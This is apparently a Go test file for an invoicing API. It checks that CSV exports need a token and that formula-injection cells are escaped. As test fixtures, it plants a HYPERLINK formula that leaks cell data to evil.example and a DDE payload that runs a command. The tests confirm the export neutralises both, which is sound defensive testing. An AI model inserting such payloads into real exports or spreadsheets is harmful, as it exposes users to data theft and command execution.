package api_test

import (
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/fulfillhq/fulfill/internal/dbtest"
)

func TestExportRoutes(t *testing.T) {
	t.Parallel()
	dbtest.ForEachParallel(t, func(t *testing.T, url string) {
		e := newEnv(t, url, "2026-03-01")
		id := e.customer("US", "")
		code, body := e.text("/api/v1/exports/customers.csv")
		rows := strings.Split(strings.TrimSpace(body), "\n")
		if code != 200 || len(rows) != 2 || !strings.HasPrefix(rows[0], "email,name,company,") ||
			!strings.HasPrefix(rows[1], "buyer@example.com,Ann Buyer,") || !strings.Contains(rows[1], ","+id+",") {
			t.Errorf("customers.csv: %d\n%s", code, body)
		}
		for _, name := range []string{"subscriptions", "invoices", "payments"} {
			if code, body := e.text("/api/v1/exports/" + name + ".csv"); code != 200 || strings.Count(body, "\n") != 1 {
				t.Errorf("%s.csv: %d\n%s", name, code, body)
			}
		}
		req, _ := http.NewRequest("GET", e.srv.URL+"/api/v1/exports/customers.csv", nil)
		res, err := http.DefaultClient.Do(req)
		if err != nil || res.StatusCode != 401 {
			t.Errorf("without a token: %v, %v", res.StatusCode, err)
		}
		res.Body.Close()
	})
}

// CSV injection (OWASP): the aging report and the exports quote cells a
// spreadsheet would evaluate (a company name, a wire reference) and keep
// amounts numeric.
func TestCSVReportsEscapeFormulaCells(t *testing.T) {
	dbtest.ForEach(t, func(t *testing.T, url string) {
		t.Parallel()
		e := newEnv(t, url, "2026-01-01")
		const company, ref = `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "@SUM(1+9)*cmd|' /C calc'!A0"
		var c struct{ ID string }
		e.must(201, "POST", "/api/v1/customers", map[string]any{"email": "eve@example.com", "name": "Eve", "company": company, "country": "US"}, &c)
		var p purchase
		e.must(201, "POST", "/api/v1/subscriptions", map[string]any{"customer_id": c.ID, "plan": "saas-premium", "seats": 2,
			"payment_method": "invoice"}, &p)
		e.must(201, "POST", "/api/v1/invoices/"+p.Invoice.ID+"/payments", map[string]any{"amount": 1000, "reference": ref}, nil)

		cell := func(path, keyCol, key, col string) string {
			t.Helper()
			code, body := e.text(path)
			recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
			if code != 200 || err != nil || len(recs) < 2 {
				t.Fatalf("%s: %d %v\n%s", path, code, err, body)
			}
			ki, ci := slices.Index(recs[0], keyCol), slices.Index(recs[0], col)
			for _, r := range recs[1:] {
				if r[ki] == key {
					return r[ci]
				}
			}
			t.Fatalf("%s: no row with %s %s\n%s", path, keyCol, key, body)
			return ""
		}
		if got := cell("/api/v1/receivables/aging?format=csv", "customer_id", c.ID, "company"); got != "'"+company {
			t.Errorf("aging company = %q", got)
		}
		if got := cell("/api/v1/exports/customers.csv", "id", c.ID, "company"); got != "'"+company {
			t.Errorf("customers.csv company = %q", got)
		}
		if got := cell("/api/v1/exports/payments.csv", "customer_id", c.ID, "provider_ref"); got != "'"+ref {
			t.Errorf("payments.csv provider_ref = %q", got)
		}
		if got := cell("/api/v1/exports/payments.csv", "customer_id", c.ID, "amount"); got != "1000" {
			t.Errorf("payments.csv amount = %q", got)
		}
	})
}
